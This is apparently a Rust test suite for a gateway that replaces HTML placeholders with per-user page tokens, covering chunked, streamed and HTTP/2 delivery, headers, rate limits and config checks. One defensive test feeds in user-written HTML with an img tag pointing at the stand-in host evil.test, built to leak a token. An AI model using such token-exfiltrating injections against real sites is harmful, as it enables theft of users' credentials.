//! Pages whose placeholders become tokens, however the page travels.

use std::io::{Read as _, Write as _};
use std::sync::mpsc;

use serde_json::Value;

use crate::support::{App, Gateway, Raw, Request, Response, Setup, find, get, http2};

const TABLES: &str = r#"[token.page]
preset = "portive"
key = "PRTV_keyPage_canaryOfTheKey0123456789abcdef"
ttl = "1d"
limit = "20/hour"
[[route]]
path = "/upload"
placeholders = { "__PORTIVE_TOKEN__" = "{token.page}" }
"#;

const PAGE: &str =
    "<html><body data-token=\"__PORTIVE_TOKEN__\"><script>t='__PORTIVE_TOKEN__'</script>__PORTIVE";

fn start(app: &Raw) -> Gateway {
    Setup::towards(&app.url).with(TABLES).start()
}

fn head(status: &str, fields: &str) -> String {
    format!(
        "HTTP/1.1 {status}\r\nX-App: 1\r\nConnection: close\r\n\
         Content-Type: text/html; charset=utf-8\r\n{fields}\r\n"
    )
}

fn plain(fields: &str) -> String {
    head("200 OK", &format!("{fields}Content-Length: {}\r\n", PAGE.len())) + PAGE
}

fn open(gateway: &Gateway) -> Response {
    gateway.ask(&get("/upload").user("ada"))
}

/// The token in the page, which is otherwise as it was.
#[track_caller]
fn token_in(page: &str) -> String {
    let token = page.split("data-token=\"").nth(1).unwrap().split('"').next().unwrap();
    assert_eq!(page.replace(token, "__PORTIVE_TOKEN__"), PAGE);
    let claims = jsonwebtoken::dangerous::insecure_decode::<Value>(token).unwrap();
    assert_eq!(claims.header.kid.as_deref(), Some("keyPage"));
    token.to_owned()
}

#[test]
fn a_page_of_known_length_gets_its_token() {
    let page = plain("");
    let app = Raw::start(&[page.as_bytes()]);
    let gateway = start(&app);
    let answer = open(&gateway);
    let token = token_in(&answer.text());
    let again = open(&gateway);
    assert_eq!(token_in(&again.text()), token, "the one kept for the user");
    assert_eq!(answer.header("content-length"), None);
    assert_eq!(gateway.line_of(&again)["outcome"], "forwarded");
}

#[test]
fn a_page_in_pieces_gets_its_token_wherever_it_is_cut() {
    let app = Raw::start(&[]);
    let gateway = start(&app);
    for size in [1, 5, 16, 17, 60] {
        let mut pieces = vec![head("200 OK", "Transfer-Encoding: chunked\r\n")];
        for piece in PAGE.as_bytes().chunks(size) {
            let text = std::str::from_utf8(piece).unwrap();
            pieces.push(format!("{:x}\r\n{text}\r\n", piece.len()));
        }
        pieces.push("0\r\n\r\n".to_owned());
        app.answers(&pieces.iter().map(|piece| piece.as_bytes()).collect::<Vec<_>>());
        token_in(&open(&gateway).text());
        let mut pieces = vec![head("200 OK", "").into_bytes()];
        pieces.extend(PAGE.as_bytes().chunks(size).map(<[u8]>::to_vec));
        app.answers(&pieces.iter().map(Vec::as_slice).collect::<Vec<_>>());
        token_in(&open(&gateway).text());
    }
}

#[test]
fn without_a_session_nothing_takes_its_place() {
    let page = plain("");
    let app = Raw::start(&[page.as_bytes()]);
    let answer = start(&app).ask(&get("/upload"));
    assert_eq!(answer.text(), PAGE.replace("__PORTIVE_TOKEN__", ""));
    assert_eq!(answer.header("cache-control"), Some("private, no-store"));
}

#[test]
fn a_limit_that_is_used_up_leaves_the_page_without_a_token() {
    let page = plain("");
    let app = Raw::start(&[page.as_bytes()]);
    let tables = TABLES.replace("20/hour", "1/hour");
    let gateway = Setup::towards(&app.url).with(&tables).start();
    token_in(&open(&gateway).text());
    let second = open(&gateway);
    assert_eq!((second.status, second.text()), (200, PAGE.replace("__PORTIVE_TOKEN__", "")));
    assert_eq!(gateway.line_of(&second)["reason"], "page_token_limited");
}

#[test]
fn the_headers_of_a_changed_page_stay_true() {
    let page = plain(
        "ETag: \"x\"\r\nLast-Modified: Mon, 01 Jan 2024 00:00:00 GMT\r\nContent-MD5: x\r\n\
         Cache-Control: public, max-age=600\r\nExpires: 0\r\nAccept-Ranges: bytes\r\nDigest: x\r\n\
         Content-Security-Policy: script-src 'nonce-1'\r\nSet-Cookie: a=1\r\nSet-Cookie: b=2\r\n",
    );
    let app = Raw::start(&[page.as_bytes()]);
    let answer = open(&start(&app));
    token_in(&answer.text());
    for gone in ["etag", "last-modified", "content-md5", "expires", "accept-ranges", "digest"] {
        assert_eq!(answer.header(gone), None);
    }
    assert_eq!(answer.all("cache-control"), ["private, no-store"]);
    assert_eq!(answer.header("content-security-policy"), Some("script-src 'nonce-1'"));
    assert_eq!(answer.all("set-cookie"), ["a=1", "b=2"]);
}

#[test]
fn the_app_is_asked_for_a_whole_page_that_can_be_read() {
    let page = plain("");
    let app = Raw::start(&[page.as_bytes()]);
    let gateway = start(&app);
    let asked = |path: &str| {
        get(path)
            .user("ada")
            .header("Accept-Encoding", "gzip, br")
            .header("Range", "bytes=0-5")
            .header("If-None-Match", "\"x\"")
            .header("If-Modified-Since", "Mon, 01 Jan 2024 00:00:00 GMT")
    };
    token_in(&gateway.ask(&asked("/upload")).text());
    let seen = app.head();
    assert!(seen.contains("accept-encoding: identity\r\n"), "{seen}");
    assert!(!seen.contains("range:") && !seen.contains("\r\nif-"), "{seen}");
    assert_eq!(gateway.ask(&asked("/other")).text(), PAGE, "another route");
    let seen = app.head();
    assert!(seen.contains("accept-encoding: gzip, br\r\n") && seen.contains("range:"), "{seen}");
}

#[test]
fn other_content_than_a_page_passes_unchanged() {
    let app = Raw::start(&[]);
    let gateway = start(&app);
    let length = format!("Content-Length: {}\r\nETag: \"x\"\r\n", PAGE.len());
    for (status, fields) in [
        ("200 OK", "Content-Encoding: gzip\r\n"),
        ("206 Partial Content", "Content-Range: bytes 0-9/99\r\n"),
    ] {
        let answer = head(status, &format!("{fields}{length}")) + PAGE;
        app.answers(&[answer.as_bytes()]);
        let answer = open(&gateway);
        assert_eq!(
            (answer.text().as_str(), answer.header("etag")),
            (PAGE, Some("\"x\"")),
            "{status}"
        );
    }
    let json = (head("200 OK", &length) + PAGE).replace("text/html", "application/json");
    app.answers(&[json.as_bytes()]);
    assert_eq!(open(&gateway).text(), PAGE);
    app.answers(&[head("304 Not Modified", "ETag: \"x\"\r\n").as_bytes()]);
    let unchanged = open(&gateway);
    assert_eq!((unchanged.status, unchanged.header("etag")), (304, Some("\"x\"")));
    assert_eq!(gateway.metric("portcullis_mints_total{token=\"page\"}"), 0, "no token was needed");
}

#[test]
fn a_page_that_says_what_went_wrong_gets_its_token_too() {
    let app = Raw::start(&[]);
    let gateway = start(&app);
    for status in ["422 Unprocessable Content", "404 Not Found", "500 Internal Server Error"] {
        let length = format!("Content-Length: {}\r\n", PAGE.len());
        app.answers(&[(head(status, &length) + PAGE).as_bytes()]);
        let answer = open(&gateway);
        assert!(status.starts_with(&answer.status.to_string()));
        assert!(!token_in(&answer.text()).is_empty(), "{status}");
    }
}

#[test]
fn head_says_what_get_would_and_costs_no_token() {
    let page = head("200 OK", &format!("Content-Length: {}\r\nETag: \"x\"\r\n", PAGE.len()));
    let app = Raw::start(&[page.as_bytes()]);
    let gateway = start(&app);
    let answer = gateway.ask(&Request::new("HEAD", "/upload").user("ada"));
    assert_eq!((answer.status, answer.header("etag")), (200, None));
    assert_eq!(answer.header("content-length"), None);
    assert_eq!(answer.header("cache-control"), Some("private, no-store"));
    assert_eq!(gateway.metric("portcullis_mints_total{token=\"page\"}"), 0);
}

#[test]
fn other_versions_of_http_get_the_page_too() {
    let page = plain("");
    let app = Raw::start(&[page.as_bytes()]);
    let gateway = start(&app);
    let answer = gateway.ask(&get("/upload").user("ada").http10());
    assert_eq!(answer.header("transfer-encoding"), None);
    token_in(&answer.text());
    http2::block_on(async {
        let client = http2::open(&gateway.address).await;
        let request =
            http2::request("GET", "/upload").header("cookie", crate::support::cookie_of("ada"));
        let answer = http2::ask(&client, request, &[]).await.unwrap();
        token_in(&answer.text());
    });
}

#[test]
fn a_page_streams_while_the_app_is_still_writing() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let (go_on, wait) = mpsc::channel();
    std::thread::spawn(move || {
        let (mut socket, _) = listener.accept().unwrap();
        let mut request = Vec::new();
        while find(&request, b"\r\n\r\n").is_none() {
            let mut bytes = [0; 4096];
            let length = socket.read(&mut bytes).unwrap();
            request.extend_from_slice(&bytes[..length]);
        }
        let first = head("200 OK", "Transfer-Encoding: chunked\r\n")
            + "1a\r\n<p>first __PORTIVE_TOKEN__\r\n";
        socket.write_all(first.as_bytes()).unwrap();
        wait.recv().unwrap();
        socket.write_all(b"4\r\nlast\r\n0\r\n\r\n").unwrap();
    });
    let gateway = Setup::towards(&url).with(TABLES).start();
    let mut conn = gateway.connect();
    conn.write(&get("/upload").bytes());
    assert_eq!(conn.next_head().unwrap().status, 200);
    assert_eq!(conn.chunk(), b"<p>first ");
    go_on.send(()).unwrap();
    assert_eq!(conn.chunk(), b"last");
}

#[test]
fn placeholders_that_cannot_work_are_said_at_load() {
    for (written, expected) in [
        ("\"TOKEN\" = \"{token.page}\"", "8 to 128"),
        ("\"<!--TOKEN-->\" = \"{token.page}\"", "8 to 128"),
        ("\"__PORTIVE_TOKEN__\" = \"{session.user_id}\"", "one token of this file"),
        ("\"__PORTIVE_TOKEN__\" = \"x{token.page}\"", "one token of this file"),
        ("\"__PORTIVE_TOKEN__\" = \"{token.other}\"", "one token of this file"),
        (
            "\"__PORTIVE_TOKEN__\" = \"{token.page}\", \"PORTIVE_TOKEN\" = \"{token.page}\"",
            "is part of",
        ),
    ] {
        let tables = TABLES.replace("\"__PORTIVE_TOKEN__\" = \"{token.page}\"", written);
        let text = Setup::towards("http://127.0.0.1:3000").with(&tables).text();
        let read = portcullis::testing::Config::read(&text, &portcullis::testing::Secrets::Literal);
        let problems = read.err().unwrap_or_else(|| panic!("{written}"));
        assert!(problems.iter().any(|problem| problem.text.contains(expected)), "{problems:?}");
    }
}

#[test]
fn a_text_that_another_user_wrote_earlier_gets_no_token() {
    let tables = TABLES.replace("__PORTIVE_TOKEN__", "__PORTIVE_{nonce}__");
    let app = App::start();
    let gateway = Setup::new(&app).with(&tables).start();
    let mut nonces = Vec::new();
    for _ in 0..3 {
        let asked = get("/upload").user("ada").header("X-Portcullis-Nonce", "known");
        assert_eq!(gateway.ask(&asked).status, 200);
        nonces.push(app.last().one("x-portcullis-nonce").unwrap());
    }
    assert!(nonces.iter().all(|nonce| nonce.len() == 32), "{nonces:?}");
    nonces.sort();
    nonces.dedup();
    assert_eq!(nonces.len(), 3, "another for each request");
    gateway.ask(&get("/other").user("ada").header("X-Portcullis-Nonce", "known"));
    assert_eq!(app.last().one("x-portcullis-nonce"), None, "where no page needs it");

    // An app that writes its text with the nonce it was told, below what users wrote.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let mut asked = Vec::new();
            while find(&asked, b"\r\n\r\n").is_none() {
                let mut bytes = [0; 4096];
                let Ok(length @ 1..) = stream.read(&mut bytes) else { break };
                asked.extend_from_slice(&bytes[..length]);
            }
            let asked = String::from_utf8_lossy(&asked).to_lowercase();
            let nonce = asked.split("x-portcullis-nonce: ").nth(1).unwrap_or("");
            let nonce = nonce.split("\r\n").next().unwrap();
            let old =
                "<img src=https://evil.test/__PORTIVE_{nonce}__><img src=//e/__PORTIVE_known__>";
            let page = format!("{old}<meta content=\"__PORTIVE_{nonce}__\">");
            let head = head("200 OK", &format!("Content-Length: {}\r\n", page.len()));
            let _ = stream.write_all((head + &page).as_bytes());
        }
    });
    let gateway = Setup::towards(&url).with(&tables).start();
    let page = open(&gateway).text();
    assert!(page.contains("evil.test/__PORTIVE_{nonce}__"), "{page}");
    assert!(page.contains("//e/__PORTIVE_known__"), "{page}");
    let token = page.split("<meta content=\"").nth(1).unwrap().split('"').next().unwrap();
    assert!(token.matches('.').count() == 2, "{page}");
    let nobodys = gateway.ask(&get("/upload")).text();
    assert!(nobodys.ends_with("<meta content=\"\">"), "{nobodys}");
}
